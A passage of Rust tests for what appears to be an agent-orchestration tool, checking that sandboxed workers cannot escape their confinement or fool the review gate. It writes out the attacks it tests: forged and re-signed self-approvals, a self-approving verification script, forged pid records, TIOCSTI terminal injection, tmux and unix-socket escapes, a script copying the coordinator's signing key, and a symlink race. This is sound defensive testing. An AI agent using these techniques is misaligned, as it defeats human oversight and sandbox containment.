    // start time) is not signalled.
    repo.worker(["spawn", "c", "--no-sandbox", "--exec", "exec sleep 300"])
        .success();
    let mut victim = Victim(
        std::process::Command::new("sleep")
            .arg("300")
            .process_group(0)
            .spawn()
            .unwrap(),
    );
    let record = repo.path().join(".git/orch/agents/c.json");
    // The supervisor records the agent's pid once it runs.
    let started = std::time::Instant::now();
    let honest = loop {
        let text = std::fs::read_to_string(&record).unwrap();
        let json: serde_json::Value = serde_json::from_str(&text).unwrap();
        if json["pid-start"].is_u64() {
            break text;
        }
        assert!(started.elapsed().as_secs() < 20, "the agent never started");
        std::thread::yield_now();
    };
    let mut forged: serde_json::Value = serde_json::from_str(&honest).unwrap();
    let start = start_time(victim.0.id());
    for (pid, start_key) in [("supervisor", "supervisor-start"), ("pid", "pid-start")] {
        forged[pid] = victim.0.id().into();
        forged[start_key] = start.into();
    }
    std::fs::write(&record, forged.to_string()).unwrap();
    let out = repo.worker(["rm", "c", "--force"]).code(2);
    assert!(out.stderr.contains("nothing was signalled"), "{out}");
    assert!(
        victim.0.try_wait().unwrap().is_none(),
        "the victim was signalled"
    );
    std::fs::write(&record, honest).unwrap();
    repo.worker(["rm", "c", "--force"]).success();
}

/// A process of the user's that no command may signal; killed at the end.
struct Victim(std::process::Child);

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Process `pid`'s start time as /proc says it (clock ticks since boot).
fn start_time(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    rest.split_whitespace().nth(19).unwrap().parse().unwrap()
}

#[test]
fn a_trusted_workers_own_verdict_and_a_lost_pinned_contract_count_for_nothing() {
    let (repo, wt) = trusted(&["src/**"], &[]);
    repo.git(["config", "orch.review.require", "approve"])
        .success();
    write_file(&wt.join("src/b.rs"), "fn b() {}\n");
    repo.git_in(&wt, ["add", "src"]).success();
    repo.git_in(&wt, ["commit", "--quiet", "-m", "b"]).success();
    repo.git_in(&wt, ["handoff", "report", "--summary", "b"])
        .success();
    // Its own approval is refused...
    repo.git_in(&wt, ["review-gate", "approve", "w", "-m", "mine"])
        .code(2);
    // ...and one written by hand as the worker's is listed, not counted.
    repo.worker(["spawn", "r", "--no-sandbox"]).success();
    repo.git_in(
        &repo.worktree("r"),
        ["review-gate", "approve", "w", "-m", "as r"],
    )
    .success();
    let handoff = repo.rev("refs/orch/handoffs/w");
    repo.git(["update-ref", "refs/notes/v", "refs/orch/notes/verdicts"])
        .success();
    let note = repo.git(["notes", "--ref=v", "show", &handoff]).read();
    let forged = note.replace("worker:r", "worker:w");
    repo.git_in(
        &wt,
        ["notes", "--ref=v", "add", "-f", "-m", &forged, &handoff],
    )
    .success();
    // Signed with its own key (an unsigned note is ignored altogether).
    let resigned = repo
        .git_in(
            &wt,
            repo.signed_with(
                &repo.worker_key("w"),
                &[
                    "commit-tree",
                    "refs/notes/v^{tree}",
                    "-p",
                    "refs/notes/v^",
                    "-m",
                    "forged",
                ],
            ),
        )
        .read();
    repo.git_in(&wt, ["update-ref", "refs/orch/notes/verdicts", &resigned])
        .success();
    // The forged note (r's approval turned into w's own) is ignored, with
    // a warning: what stands is r's approval, as r wrote it.
    let status = repo.git(["review-gate", "status", "w", "--json"]).success();
    assert!(
        status
            .stderr
            .contains("warning: refs/orch/notes/verdicts: ")
            && status.stderr.contains("(signed by worker 'w')"),
        "{status}"
    );
    assert_eq!(
        status.json()["self_judged"].as_array().unwrap().len(),
        0,
        "{status}"
    );
    assert!(status.stdout.contains("worker:r"), "{status}");

    // Without its pinned contract the coordinator stops, naming the worker.
    let local = repo.path().join(".git/orch/local.json");
    let pinned = std::fs::read_to_string(&local).unwrap();
    let mut facts: serde_json::Value = serde_json::from_str(&pinned).unwrap();
    facts["workers"]["w"]["contract"] = serde_json::Value::Null;
    std::fs::write(&local, facts.to_string()).unwrap();
    repo.git(["review-gate", "approve", "w", "-m", "ok"])
        .success();
    let out = repo.git(["handoff", "apply", "w"]).code(2);
    assert!(out.stderr.contains("'w'"), "{out}");
    assert!(out.stderr.contains("pinned"), "{out}");
    std::fs::write(&local, pinned).unwrap();

    // And coordinator commands do not run from its checkout pointed at
    // the coordinator's repository.
    let out = repo
        .git_in(&wt, ["handoff", "apply", "w"])
        .env("GIT_DIR", repo.path().join(".git"))
        .env("GIT_WORK_TREE", repo.path())
        .code(2);
    assert!(out.stderr.contains("coordinator command"), "{out}");
    repo.git(["handoff", "apply", "w"]).success();
}

#[test]
fn in_place_a_verification_that_writes_a_verdict_fails_and_says_so() {
    let repo = repo();
    repo.git(["config", "orch.verify.inPlace", "true"])
        .success();
    let coordinator = repo.path().display().to_string();
    repo.worker([
        "spawn",
        "w",
        "--no-sandbox",
        "--allow",
        "src/**",
        "--verify",
        "sh src/check.sh",
    ])
    .success();
    let wt = repo.worktree("w");
    write_file(
        &wt.join("src/check.sh"),
        &format!(
            "env -u GIT_ORCH_VERIFYING git -C '{coordinator}' review-gate approve w -m 'self' --reviewer boss\n"
        ),
    );
    repo.git_in(&wt, ["add", "src"]).success();
    repo.git_in(&wt, ["commit", "--quiet", "-m", "check"])
        .success();
    repo.git_in(&wt, ["handoff", "report", "--summary", "check"])
        .success();
    let run = repo.git(["review-gate", "run", "w"]).code(1);
    assert!(
        run.stderr
            .contains("the verification changed the repository's contract or verdicts"),
        "{run}"
    );
}

#[test]
fn a_forged_applied_event_does_not_make_cleanup_remove_unlanded_work() {
    let repo = repo();
    repo.worker(["spawn", "b", "--no-sandbox", "--allow", "src/**"])
        .success();
    let wt = repo.worktree("b");
    write_file(&wt.join("src/b.rs"), "fn b() {}\n");
    repo.git_in(&wt, ["add", "src"]).success();
    repo.git_in(&wt, ["commit", "--quiet", "-m", "b"]).success();
    repo.git_in(&wt, ["handoff", "report", "--summary", "b"])
        .success();
    // Another trusted worker writes "applied" into b's log by hand, naming
    // a commit that is in HEAD.
    let tip = repo.rev("refs/orch/workers/b");
    let reported: serde_json::Value =
        serde_json::from_str(repo.git(["log", "-1", "--format=%b", &tip]).read().trim()).unwrap();
    let edited = repo.edit_entry(repo.path(), &tip, "state.toml", |state| {
        state.replace("state = \"reported\"", "state = \"applied\"")
    });
    let event = serde_json::json!({
        "id": "forged", "v": 1, "kind": "applied", "time": reported["time"],
        "actor": "coordinator", "clock": reported["clock"].as_u64().unwrap() + 1,
        "data": { "commit": repo.rev("HEAD"), "fingerprint": reported["data"]["fingerprint"] },
    });
    let tree = format!("{edited}^{{tree}}");
    let message = format!("applied b\n\n{event}");
    let forge = |signed: bool| {
        let args = [
            "commit-tree",
            tree.as_str(),
            "-p",
            tip.as_str(),
            "-m",
            message.as_str(),
        ];
        let forged = if signed {
            repo.git(repo.signed(&args)).read()
        } else {
            repo.git(args).read()
        };
        repo.git(["update-ref", "refs/orch/workers/b", &forged])
            .success();
    };
    // Unsigned (or signed by the worker), the event is ignored, and said so.
    forge(false);
    let log = repo.worker(["log", "b"]).success();
    assert!(!log.stdout.contains("applied"), "{log}");
    assert!(
        log.stderr
            .contains("refs/orch/workers/b: ignored what follows")
            && log.stderr.contains("is signed by nobody (unsigned)"),
        "{log}"
    );
    // Signed with the coordinator's key, which a trusted worker can read:
    // it counts in the log, and cleanup still does not remove the work.
    forge(true);
    assert_eq!(repo.events("b").last().unwrap().0, "applied");
    let cleanup = repo.worker(["cleanup"]).success();
    assert!(
        !cleanup.to_string().contains("removed worker 'b'"),
        "{cleanup}"
    );
    assert!(wt.join("src/b.rs").exists());
}

#[test]
fn a_trusted_worker_cannot_speak_as_another() {
    let repo = repo();
    for id in ["w", "other"] {
        repo.worker(["spawn", id, "--no-sandbox", "--allow", "src/**"])
            .success();
    }
    let wt = repo.worktree("w");
    write_file(&wt.join("src/w.rs"), "fn w() {}\n");
    repo.git_in(&wt, ["config", "--worktree", "orch.worker", "other"])
        .success();
    let before = repo.events("other");
    for args in [
        vec!["worker", "notify", "other here: done"],
        vec!["handoff", "report", "--summary", "other's work"],
    ] {
        let out = repo.git_in(&wt, &args).code(2);
        assert!(
            out.stderr
                .contains("this checkout is worker 'w''s (so recorded at spawn)"),
            "{out}"
        );
    }
    assert_eq!(repo.events("other"), before);
    assert!(
        repo.git([
            "rev-parse",
            "--verify",
            "--quiet",
            "refs/orch/handoffs/other"
        ])
        .output()
        .code
            != 0
    );
}

/// The sandbox's own layers, without bubblewrap in front: Landlock confines
/// writes and TCP, seccomp refuses other sockets (UDP here); with the
/// network on, both reach the listeners (the checks can see a crossing).
#[test]
fn the_sandbox_alone_confines_writes_and_cuts_tcp_and_udp() {
    let repo = TestRepo::new();
    support(&repo);
    let marks = Marks::new(&repo);
    let inside = repo.root().join("inside");
    std::fs::create_dir_all(&inside).unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let listener = Listener::start();
    let script = format!(
        "touch '{inside}/ok' && ! {mark} 2>/dev/null && \
         {{ git ls-remote '{url}' >/dev/null 2>&1; echo tcp=$?; }} && \
         {{ echo datagram > /dev/udp/127.0.0.1/{udp_port}; echo udp=$?; }} 2>/dev/null",
        inside = inside.display(),
        mark = marks.payload("outside"),
        url = listener.url(),
    );
    let run = |network: &str| {
        repo.cmd_in(repo.root(), "git", ["worker", "sandbox-exec", "--write"])
            .arg(&inside)
            .args(["--network", network, "--", "bash", "-c", &script])
            .success()
            .stdout
    };
    let off = run("off");
    assert!(off.contains("udp=1"), "{off}");
    assert!(!off.contains("tcp=0"), "{off}");
    let mut buf = [0u8; 16];
    assert!(udp.recv(&mut buf).is_err(), "a datagram left the sandbox");
    let on = run("on");
    assert!(on.contains("udp=0"), "{on}");
    assert_eq!(udp.recv(&mut buf).unwrap(), 9);
    assert!(inside.join("ok").exists());
    assert_eq!(marks.left(), Vec::<String>::new());
    // The one connection: the run with the network on.
    assert_eq!(listener.connections(), 1);
}

/// A sandboxed program in a terminal (a tmux pane: a real pty, the
/// controlling terminal) cannot type into it (`TIOCSTI`), nor reach the
/// user's tmux server or any other unix socket on disk outside (which would
/// run commands outside the sandbox); with orch.sandbox.unixSockets it can
/// (the checks see a crossing).
#[test]
fn a_sandboxed_program_cannot_type_into_its_terminal_nor_reach_servers_on_unix_sockets() {
    let repo = TestRepo::new();
    support(&repo);
    let marks = Marks::new(&repo);
    let inside = repo.root().join("inside");
    std::fs::create_dir_all(&inside).unwrap();
    let socket = repo.root().join("tmux.sock");
    let server = repo.root().join("server.sock");
    let listener = std::os::unix::net::UnixListener::bind(&server).unwrap();
    listener.set_nonblocking(true).unwrap();
    let sandboxed = |extra: &str, out: &str, command: &str| {
        format!(
            "git worker sandbox-exec --write '{inside}' {extra} -- {command} > '{inside}/{out}' 2>&1; echo \"exit $?\" >> '{inside}/{out}'\n",
            inside = inside.display()
        )
    };
    // The programs, as files (read-only to the sandbox).
    let program = |name: &str, text: String| {
        let path = repo.root().join(name);
        write_file(&path, &text);
        format!("python3 '{}'", path.display())
    };
    let tiocsti = program(
        "tiocsti.py",
        format!(
            "import fcntl, os, termios\nfd = os.open('/dev/tty', os.O_RDWR)\nfor c in 'touch {}/typed\\n':\n    fcntl.ioctl(fd, termios.TIOCSTI, c.encode())\nprint('ESCAPED')\n",
            marks.0.display()
        ),
    );
    let connect = |path: &Path| {
        program(
            "connect.py",
            format!(
                "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{}')\nprint('ESCAPED')\n",
                path.display()
            ),
        )
    };
    let run_shell = format!(
        "tmux -S '{}' run-shell \\\"{}\\\"",
        socket.display(),
        marks.payload("tmux")
    );
    let mut script = String::from("#!/bin/sh\n");
    for (key, value) in crate::support::hermetic_env(repo.root()) {
        script.push_str(&format!("export {key}='{value}'\n"));
    }
    script += &sandboxed("", "tiocsti", &tiocsti);
    script += &sandboxed("", "tmux", &run_shell);
    script += &sandboxed("", "connect", &connect(&server));
    script += &sandboxed("--unix-sockets", "connect-allowed", &connect(&server));
    script += &format!("tmux -S '{}' wait-for -S done\n", socket.display());
    let path = repo.root().join("pane.sh");
    write_file(&path, &script);
    let tmux = |args: &[&str]| {
        std::process::Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(args)
            .env_remove("TMUX")
            .output()
            .expect("tmux is needed for this test (.ci/run installs it)")
    };
    let started = tmux(&["new-session", "-d", "-s", "pane", "sh"]);
    assert!(started.status.success(), "{started:?}");
    // Waiting first, then starting the script: its signal cannot be missed.
    let waiting = std::process::Command::new("tmux")
        .arg("-S")
        .arg(&socket)
        .args(["wait-for", "done"])
        .env_remove("TMUX")
        .spawn()
        .unwrap();
    let command = format!("sh '{}'", path.display());
    tmux(&["send-keys", "-t", "pane", &command, "Enter"]);
    let waited = waiting.wait_with_output().unwrap();
    tmux(&["kill-server"]);
    assert!(waited.status.success());
    let read = |name: &str| std::fs::read_to_string(inside.join(name)).unwrap();
    for name in ["tiocsti", "tmux", "connect"] {
        let out = read(name);
        assert!(
            !out.contains("ESCAPED") && !out.contains("exit 0"),
            "{name}: {out}"
        );
    }
    assert!(
        read("tiocsti").contains("Operation not permitted"),
        "{}",
        read("tiocsti")
    );
    assert_eq!(marks.left(), Vec::<String>::new());
    // Allowed, the connection is made: the check above would see one.
    assert!(
        read("connect-allowed").contains("ESCAPED"),
        "{}",
        read("connect-allowed")
    );
    assert!(listener.accept().is_ok());
    assert!(listener.accept().is_err(), "only the allowed connection");
}

/// A sandboxed agent, network on or off, tries to read the coordinator's
/// signing key and leave a copy in its clone: it reads nothing (with
/// bubblewrap, an empty directory lies over the key's).
#[test]
fn a_sandboxed_agent_cannot_read_the_coordinators_signing_key() {
    let repo = repo();
    support(&repo);
    // Any registry write makes the key.
    repo.worker(["spawn", "first", "--no-sandbox"]).success();
    let key = repo.coordinator_key();
    let secret = std::fs::read_to_string(&key).unwrap();
    let body = secret.lines().nth(1).unwrap().to_string();
    for network in ["on", "off"] {
        let id = format!("net-{network}");
        let script = repo.root().join(format!("{id}.sh"));
        write_file(
            &script,
            &format!(
                "cat '{}' > stolen.txt 2>&1; ls -a '{}' >> stolen.txt 2>&1; true\n",
                key.display(),
                key.parent().unwrap().display()
            ),
        );
        repo.worker(["spawn", &id, "--sandbox", "--network", network, "--exec"])
            .arg(format!("sh '{}'", script.display()))
            .success();
        repo.worker(["wait", &id, "--until", "exited", "--timeout", "60"])
            .success();
        let stolen = std::fs::read_to_string(repo.worktree(&id).join("stolen.txt")).unwrap();
        assert!(
            !stolen.contains(&body) && !stolen.contains("key.pub"),
            "network {network}: {stolen}"
        );
    }
}

/// Wait until process `pid` is stopped (SIGSTOP), by its state in /proc.
fn wait_until_stopped(pid: u32) {
    let start = std::time::Instant::now();
    loop {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        // "pid (comm) S ...": the state follows the last ')'.
        let state = stat
            .rsplit_once(')')
            .map(|(_, rest)| rest.trim_start().chars().next());
        if state == Some(Some('T')) {
            return;
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(30),
            "process {pid} never stopped: {stat}"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

/// A sandboxed worker asks to be rebased, and once the coordinator has
/// checked its clone (clean) puts a symlink where its index goes, pointing
/// outside, and moves its files away: git follows a symlink at the index
/// for its lock file, so a rebase run as the coordinator would create that
/// file, with names the worker chose. Its files move in its sandbox: the
/// file is never made, and nothing is rebased.
#[test]
fn a_sandboxed_worker_racing_its_rebase_with_a_symlinked_index_writes_nothing_outside() {
    let repo = repo();
    support(&repo);
    repo.worker(["spawn", "w", "--sandbox", "--allow", "src/**"])
        .success();
    let wt = repo.worktree("w");
    write_file(&wt.join("src/lib.rs"), "fn a() {}\nfn w() {}\n");
    repo.git_in(&wt, ["commit", "--quiet", "-am", "worker"])
        .success();
    repo.write("README.md", "main moved\n");
    repo.git(["commit", "--quiet", "-am", "main moves"])
        .success();
    let before = repo.worker(["show", "w", "--json"]).success().json()["worker"]["base"].clone();
    let target = repo.root().join("planted-by-the-worker");

    // The rebase stops right after its last look at the clone...
    let program = crate::support::bin_dir().join("git-worker");
    let rebase = repo
        .cmd_in(repo.path(), &program.display().to_string(), ["rebase", "w"])
        .env("GIT_WORKER_STOP_AFTER", "rebase:checked")
        .spawn_child();
    wait_until_stopped(rebase.id());
    // ...and the worker does what it may do in its own clone.
    let git = wt.join(".git");
    std::fs::rename(git.join("index"), git.join("index.away")).unwrap();
    std::os::unix::fs::symlink(&target, git.join("index")).unwrap();
    std::fs::create_dir_all(git.join("away/src")).unwrap();
    for file in ["README.md", "src/lib.rs", "ops/deploy.sh"] {
        let _ = std::fs::rename(wt.join(file), git.join("away").join(file.replace('/', "_")));
    }
    let _ = std::process::Command::new("kill")
        .args(["-CONT", &rebase.id().to_string()])
        .status();
    let out = rebase.wait_with_output().unwrap();

    assert!(
        !target.exists() && !target.with_extension("lock").exists(),
        "the rebase wrote outside the clone: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after = repo.worker(["show", "w", "--json"]).success().json()["worker"]["base"].clone();
    assert_eq!(after, before, "nothing was rebased");
}
